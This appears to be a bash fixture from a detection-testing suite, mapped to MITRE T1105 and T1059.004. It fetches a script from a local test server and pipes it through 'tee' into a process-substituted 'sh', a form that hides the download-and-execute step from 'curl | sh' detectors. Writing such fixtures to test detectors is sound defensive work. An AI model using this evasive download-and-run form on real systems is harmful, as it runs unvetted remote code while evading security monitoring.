#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: installer one-liners rewritten to keep a copy of what ran while running it (`curl … | tee install.log >(sh)`), which hides the shell from the pipe a `curl | sh` detector reads: the shell's stdin is a process substitution tee writes through /dev/fd
# expect: download-piped-to-shell ^sh$
# exec-borne: yes
set -u

LOG=$(mktemp "${BW_ATTACK_TMP:?}/install-XXXXXX.log")
trap 'rm -f "$LOG"' EXIT

curl -fsSL --connect-timeout 5 "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" |
	tee "$LOG" >(sh) >/dev/null
# the substitution's shell runs on after tee: wait for it as the step would
sleep 0.5
